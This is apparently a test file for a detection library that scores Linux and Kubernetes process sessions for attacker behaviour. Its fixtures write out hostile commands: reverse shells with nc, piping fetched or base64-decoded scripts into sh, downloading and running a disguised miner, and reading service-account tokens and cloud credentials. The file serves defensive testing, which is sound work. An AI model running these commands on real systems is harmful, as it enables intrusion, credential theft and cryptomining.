import fc from 'fast-check';
import { generateSession } from '@execwatch/simulator';
import { describe, expect, it } from 'vitest';
import { HIGH_RISK_THRESHOLD, RISK_LEVEL_THRESHOLDS, riskLevel, scoreSession, TEMPO_BEHAVIOR_ID, TEMPO_MAX_WEIGHT, TEMPO_WINDOW_MS, type SessionScore } from './score';
import { proc, session, SESSION_START } from './test-helpers';

const ids = (r: SessionScore) => r.behaviors.map((b) => b.id);
const scoreOf = (lines: string[], opts: { stepMs?: number; cwd?: string } = {}) => {
  const s = session(lines, opts);
  return scoreSession(s.processes, { entryStart: s.entryStart });
};

describe('riskLevel', () => {
  it.each([
    [0, 'low'],
    [24, 'low'],
    [25, 'medium'],
    [49, 'medium'],
    [50, 'high'],
    [74, 'high'],
    [75, 'critical'],
    [100, 'critical'],
  ] as const)('%i is %s', (score, level) => {
    expect(riskLevel(score)).toBe(level);
  });

  it('puts the high-risk guard rail at the start of the high level', () => {
    expect(HIGH_RISK_THRESHOLD).toBe(RISK_LEVEL_THRESHOLDS.high);
    expect(riskLevel(HIGH_RISK_THRESHOLD)).toBe('high');
  });
});

describe('scoreSession', () => {
  it('scores an empty session 0 with no behaviours', () => {
    expect(scoreSession([])).toEqual({ risk_score: 0, behaviors: [], process_count: 0 });
  });

  it('counts a behaviour once however many processes show it, with bounded evidence', () => {
    const cats = Array.from({ length: 30 }, () => 'cat /var/run/secrets/kubernetes.io/serviceaccount/token');
    const one = scoreOf(cats.slice(0, 1), { stepMs: 3_600_000 });
    const many = scoreOf(cats, { stepMs: 3_600_000 });
    expect(many.risk_score).toBe(one.risk_score);
    const token = many.behaviors.find((b) => b.id === 'credential_access.service_account_token');
    expect(token?.match_count).toBe(30);
    expect(token?.evidence).toHaveLength(5);
    // The earliest ones, in time order.
    const times = token?.evidence.map((e) => e.time ?? '') ?? [];
    expect([...times].sort()).toEqual(times);
    expect(scoreSession(session(cats).processes, { maxEvidence: 2 }).behaviors[0]?.evidence).toHaveLength(2);
  });

  it('does not count the same process twice when its exec and end events are both given', () => {
    const exec = proc('cat /var/run/secrets/kubernetes.io/serviceaccount/token', { id: 'p1' });
    const end = { ...exec, event: { action: 'end' } };
    const r = scoreSession([exec, end]);
    expect(r.process_count).toBe(1);
    expect(r.behaviors[0]?.match_count).toBe(1);
    expect(r.behaviors[0]?.evidence).toHaveLength(1);
  });

  it('reads session-tree processes and dotted-key event documents alike', () => {
    const line = 'nc 203.0.113.50 4444 -e /bin/sh';
    const tree = { entity_id: 'p1', parent_entity_id: 'shell', name: 'nc', executable: '/usr/bin/nc', args: line.split(' '), start: '2026-01-01T00:00:00.000Z', working_directory: '/' };
    const dotted = { 'process.entity_id': 'p1', 'process.name': 'nc', 'process.executable': '/usr/bin/nc', 'process.args': line.split(' '), '@timestamp': '2026-01-01T00:00:00.000Z' };
    const nested = scoreSession([proc(line, { id: 'p1' })]);
    expect(scoreSession([tree])).toEqual(nested);
    expect(scoreSession([dotted])).toEqual(nested);
  });

  it('lists behaviours heaviest first and explains the score with them', () => {
    const r = scoreOf(['id', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'nc 203.0.113.50 4444 -e /bin/sh']);
    const weights = r.behaviors.map((b) => b.weight);
    expect([...weights].sort((a, b) => b - a)).toEqual(weights);
    const expected = Math.round(100 * (1 - r.behaviors.reduce((rest, b) => rest * (1 - b.weight / 100), 1)));
    expect(r.risk_score).toBe(expected);
  });
});

describe('combinations', () => {
  it('download then execute of the same path', () => {
    const r = scoreOf(['wget -q -O /tmp/.kworker http://198.51.100.23/kworker', 'chmod +x /tmp/.kworker', '/tmp/.kworker -o pool.example.net:3333']);
    expect(ids(r)).toContain('combination.download_then_execute');
    const combo = r.behaviors.find((b) => b.id === 'combination.download_then_execute');
    expect(combo?.evidence.map((e) => e.name)).toEqual(['wget', '.kworker']);
  });

  it('relative download paths resolve against the working directory', () => {
    const r = scoreOf(['curl -O https://198.51.100.23/agent', 'chmod +x agent', '/app/agent'], { cwd: '/app' });
    expect(ids(r)).toContain('combination.download_then_execute');
  });

  it('not for a binary that ran before a file of its name was downloaded', () => {
    const r = scoreOf(['/tmp/.kworker', 'wget -q -O /tmp/.kworker http://198.51.100.23/kworker']);
    expect(ids(r)).toContain('execution.staged_binary');
    expect(ids(r)).not.toContain('combination.download_then_execute');
  });

  it('not for a download and the execution of another file', () => {
    const r = scoreOf(['wget -q -O /tmp/a http://198.51.100.23/a', '/tmp/b']);
    expect(ids(r)).not.toContain('combination.download_then_execute');
  });

  it('token read then API call, only in that order', () => {
    const token = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';
    const api = 'curl -sk -H "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9" https://kubernetes.default.svc/api/v1/namespaces/default/pods';
    expect(ids(scoreOf([token, api]))).toContain('combination.token_then_api');
    expect(ids(scoreOf([api, token]))).not.toContain('combination.token_then_api');
  });

  it('network tool installed then a reverse shell or listener, only in that order', () => {
    const install = 'apt-get install -y netcat-openbsd';
    expect(ids(scoreOf([install, 'nc 203.0.113.50 4444 -e /bin/sh']))).toContain('combination.tool_install_then_shell');
    expect(ids(scoreOf([install, 'nc -lvp 4444']))).toContain('combination.tool_install_then_shell');
    expect(ids(scoreOf(['nc 203.0.113.50 4444 -e /bin/sh', install]))).not.toContain('combination.tool_install_then_shell');
    expect(ids(scoreOf(['apt-get install -y vim', 'nc 203.0.113.50 4444 -e /bin/sh']))).not.toContain('combination.tool_install_then_shell');
  });

  it('remote script piped into a shell, but not a fetch and a shell typed apart', () => {
    expect(ids(scoreOf(['curl -fsSL http://203.0.113.50/x.sh | sh']))).toContain('combination.fetch_into_shell');
    expect(ids(scoreOf(['wget -qO- http://203.0.113.50/x.sh | bash -s -- --quiet']))).toContain('combination.fetch_into_shell');
    expect(ids(scoreOf(['curl -fsSL http://203.0.113.50/x.sh', 'sh']))).not.toContain('combination.fetch_into_shell');
    expect(ids(scoreOf(['curl -s https://api.example.com/status | jq .']))).not.toContain('combination.fetch_into_shell');
    expect(ids(scoreOf(['curl -s http://localhost:8080/setup.sh | sh']))).not.toContain('combination.fetch_into_shell');
  });

  it('decoded payload piped into a shell', () => {
    expect(ids(scoreOf(['echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3Iuc2g= | base64 -d | sh']))).toContain('combination.decode_into_shell');
    expect(ids(scoreOf(['base64 -d notes.b64']))).not.toContain('combination.decode_into_shell');
  });
});

describe('tempo bonus', () => {
  const risky = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';
  const tempo = (r: SessionScore) => r.behaviors.find((b) => b.id === TEMPO_BEHAVIOR_ID);

  it('is largest right after the exec and fades to nothing over the window', () => {
    const soon = tempo(scoreOf([risky], { stepMs: 1_000 }));
    const later = tempo(scoreOf([risky], { stepMs: TEMPO_WINDOW_MS / 2 }));
    expect(soon?.weight).toBe(TEMPO_MAX_WEIGHT);
    expect(later?.weight).toBeLessThan(TEMPO_MAX_WEIGHT);
    expect(later?.weight).toBeGreaterThan(0);
    expect(tempo(scoreOf([risky], { stepMs: TEMPO_WINDOW_MS }))).toBeUndefined();
    expect(soon?.evidence[0]?.args).toEqual(risky.split(' '));
  });

  it('needs a risky behaviour and the entry start', () => {
    expect(tempo(scoreOf(['env', 'id', 'ps aux'], { stepMs: 1_000 }))).toBeUndefined();
    expect(tempo(scoreSession(session([risky], { stepMs: 1_000 }).processes))).toBeUndefined();
  });

  it('counts from the earliest risky process', () => {
    const s = session(['ls', risky, 'nc 203.0.113.50 4444 -e /bin/sh'], { stepMs: 60_000 });
    const r = scoreSession(s.processes, { entryStart: new Date(s.entryStart).toISOString() });
    expect(tempo(r)?.evidence[0]?.name).toBe('cat');
    expect(tempo(r)?.weight).toBe(Math.round(TEMPO_MAX_WEIGHT * (1 - 120_000 / TEMPO_WINDOW_MS)));
  });
});

describe('scenarios', () => {
  const admin = ['env', 'cat /etc/nginx/nginx.conf', 'curl localhost:8080/health', 'ps aux', 'ls /app', 'top -b -n 1', 'tail -f /var/log/nginx/error.log', 'kubectl get pods -n kube-system'];
  const developer = ['ls -la', 'cat config/app.yaml', 'node -e "console.log(process.version)"', 'npm ls --depth=0', 'curl -s http://localhost:8080/healthz', 'python3 -m pip list', 'grep -rn TODO src'];
  const ci = ['sh -c "npm ci && npm test"', 'make', 'make test', 'npm run build', 'pip install -r requirements.txt', 'go test ./...', 'tar -czf artifacts.tgz dist', 'rm -rf node_modules'];
  const ciGoTestBinaries = ['sh -c "go test ./..."', '/tmp/go-build2931/b001/api.test -test.v', '/tmp/go-build2931/b002/store.test'];
  const attacker = [
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'curl -k -H "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjVIWm9UZ1R6In0" https://kubernetes.default.svc/api/v1/secrets',
    'apt-get install -y netcat',
    'nc 203.0.113.50 4444 -e /bin/sh',
    'rm -rf /tmp/.kworker',
  ];
  const subtle = ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'curl -sk -H "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9" https://10.96.0.1:443/api/v1/namespaces/default/pods'];
  const dropper = ['id', 'uname -a', 'wget -q -O /tmp/.kworker http://198.51.100.23/kworker', 'chmod +x /tmp/.kworker', '/tmp/.kworker -o pool.example.net:3333', 'rm -f /root/.bash_history'];
  const escape = ['mount', 'fdisk -l', 'mount /dev/sda1 /mnt', 'chroot /mnt bash', 'nsenter -t 1 -m -u -i -n sh'];
  const piped = ['whoami', 'curl -fsSL http://203.0.113.50/x.sh | sh', 'rm -f /root/.bash_history'];

  // Sessions that overlap: the attacker's discovery is the admin's, the admin's curl is the attacker's tool.
  const benign = { admin, developer, ci, ciGoTestBinaries } as const;
  const attackers = { attacker, subtle, dropper, escape, piped } as const;
  const scored = (lines: readonly string[], stepMs = 8_000) => scoreOf([...lines], { stepMs });

  it.each(Object.entries(benign))('%s session is low risk', (_name, lines) => {
    const r = scored(lines, 20_000);
    expect(riskLevel(r.risk_score)).toBe('low');
    expect(r.risk_score).toBeLessThan(RISK_LEVEL_THRESHOLDS.medium);
  });

  it('the admin earns only discovery, the CI runner nothing', () => {
    expect(ids(scored(admin)).sort()).toEqual(['discovery.cluster', 'discovery.container']);
    expect(scored(ci).behaviors).toEqual([]);
    expect(scored(ciGoTestBinaries).behaviors).toEqual([]);
  });

  it.each(Object.entries(attackers))('%s session is at or above the high-risk threshold', (_name, lines) => {
    expect(scored(lines).risk_score).toBeGreaterThanOrEqual(HIGH_RISK_THRESHOLD);
  });

  it('every attacker session scores above every benign one, even when slow', () => {
    const benignScores = Object.values(benign).map((l) => scored(l, 1_000).risk_score);
    const attackerScores = Object.values(attackers).map((l) => scored(l, 120_000).risk_score);
    expect(Math.min(...attackerScores)).toBeGreaterThan(Math.max(...benignScores));
  });

  it('the full attacker chain is critical and says why', () => {
    const r = scored(attacker);
    expect(riskLevel(r.risk_score)).toBe('critical');
    expect(ids(r)).toEqual(
      expect.arrayContaining([
        'credential_access.service_account_token',
        'k8s_api.request',
        'k8s_api.secrets',
        'transfer.package_install',
        'transfer.network_tool_install',
        'execution.reverse_shell',
        'defense_evasion.file_deletion',
        'combination.token_then_api',
        'combination.tool_install_then_shell',
        TEMPO_BEHAVIOR_ID,
      ]),
    );
    const techniques = new Set(r.behaviors.map((b) => b.technique_id));
    for (const t of ['T1528', 'T1613', 'T1552.007', 'T1105', 'T1059.004', 'T1070.004']) expect(techniques).toContain(t);
  });

  it('the subtle attacker is high without any tempo help', () => {
    const s = session(subtle, { stepMs: 60_000 });
    const r = scoreSession(s.processes);
    expect(r.risk_score).toBeGreaterThanOrEqual(HIGH_RISK_THRESHOLD);
    expect(ids(r)).toContain('combination.token_then_api');
  });
});

describe('simulated sessions', () => {
  const seeds = Array.from({ length: 60 }, (_, i) => i + 1);
  const score = (kind: 'admin' | 'developer' | 'ci' | 'attacker', seed: number) => {
    const events = generateSession(kind, { seed, start: SESSION_START });
    return scoreSession(events, { entryStart: SESSION_START }).risk_score;
  };

  it('admin, developer and CI sessions of the simulator stay low', () => {
    for (const kind of ['admin', 'developer', 'ci'] as const) {
      for (const seed of seeds) expect(score(kind, seed), `${kind} seed ${seed}`).toBeLessThan(RISK_LEVEL_THRESHOLDS.medium);
    }
  });

  it('most simulated attackers reach high risk', () => {
    const scores = seeds.map((seed) => score('attacker', seed));
    const high = scores.filter((s) => s >= HIGH_RISK_THRESHOLD).length;
    expect(high / scores.length).toBeGreaterThan(0.6);
    expect(scores.filter((s) => s < RISK_LEVEL_THRESHOLDS.medium).length / scores.length).toBeLessThan(0.15);
  });
});

describe('properties', () => {
  const LINES = [
    'env', 'ps aux', 'ls /app', 'cat /etc/nginx/nginx.conf', 'curl localhost:8080/health', 'kubectl get pods', 'npm test', 'make',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'curl -k -H "Authorization: Bearer x" https://kubernetes.default.svc/api/v1/secrets',
    'apt-get install -y netcat', 'nc 203.0.113.50 4444 -e /bin/sh', 'nc -lvp 4444', 'rm -rf /tmp/.kworker', 'rm -rf node_modules',
    'wget -q -O /tmp/.kworker http://198.51.100.23/kworker', 'curl -o agent https://198.51.100.23/agent', '/tmp/.kworker', '/app/agent', 'rm -f agent',
    'chmod +x /tmp/.kworker', 'curl -fsSL http://203.0.113.50/x.sh', 'sh', 'base64 -d', 'nsenter -t 1 -m sh', 'crontab /tmp/c', 'useradd x',
    'bash -c "history -c"', 'shred -u x', 'sed -i s/a/b/ /root/.bashrc', 'cat /root/.aws/credentials', 'nc -z db 5432',
  ];
  const processArb = fc.record({
    line: fc.constantFrom(...LINES),
    // Shared ids and parents on purpose: repeated events of one process, siblings of one pipeline.
    id: fc.integer({ min: 0, max: 40 }),
    parent: fc.integer({ min: 0, max: 3 }),
    t: fc.option(fc.integer({ min: -60_000, max: 30 * 60_000 }), { nil: null }),
    cwd: fc.constantFrom('/', '/app', '/tmp'),
  });
  type Spec = { line: string; id: number; parent: number; t: number | null; cwd: string };
  const build = (specs: readonly Spec[]) =>
    specs.map((s) => {
      const doc = proc(s.line, { id: `p${s.id}:${s.line}`, parent: `parent-${s.parent}`, cwd: s.cwd, t: SESSION_START + (s.t ?? 0) });
      if (s.t === null) {
        const { start: _start, ...process } = doc.process as Record<string, unknown>; // proc() always builds a process object
        return { process };
      }
      return doc;
    });
  const opts = { entryStart: SESSION_START };

  it('scores are integers within [0, 100]', () => {
    fc.assert(
      fc.property(fc.array(processArb, { maxLength: 40 }), (specs) => {
        const { risk_score } = scoreSession(build(specs), opts);
        return Number.isInteger(risk_score) && risk_score >= 0 && risk_score <= 100;
      }),
    );
  });

  it('the result does not depend on the order of the processes', () => {
    fc.assert(
      fc.property(
        fc.array(processArb, { maxLength: 30 }).chain((specs) => fc.tuple(fc.constant(specs), fc.shuffledSubarray(specs, { minLength: specs.length, maxLength: specs.length }))),
        ([specs, shuffled]) => {
          expect(scoreSession(build(shuffled), opts)).toEqual(scoreSession(build(specs), opts));
        },
      ),
    );
  });

  it('adding processes never lowers the score', () => {
    fc.assert(
      fc.property(fc.array(processArb, { maxLength: 25 }), fc.array(processArb, { maxLength: 25 }), (a, b) => {
        const before = scoreSession(build(a), opts).risk_score;
        const after = scoreSession(build([...a, ...b]), opts).risk_score;
        expect(after).toBeGreaterThanOrEqual(before);
        expect(scoreSession(build([...a, ...b])).risk_score).toBeGreaterThanOrEqual(scoreSession(build(a)).risk_score);
      }),
    );
  });

  it('repeating events changes nothing', () => {
    fc.assert(
      fc.property(fc.array(processArb, { maxLength: 25 }), (specs) => {
        expect(scoreSession(build([...specs, ...specs]), opts)).toEqual(scoreSession(build(specs), opts));
      }),
    );
  });
});

describe('a long session', () => {
  it('scores 2,000 processes in one go', () => {
    const lines = Array.from({ length: 2_000 }, (_, i) => (i % 500 === 499 ? 'nc 203.0.113.50 4444 -e /bin/sh' : i % 2 ? `cat /app/logs/${i}.log` : 'ps aux'));
    const r = scoreOf(lines, { stepMs: 50 });
    expect(r.process_count).toBe(2_001);
    expect(r.behaviors.find((b) => b.id === 'execution.reverse_shell')?.match_count).toBe(4);
  });
});
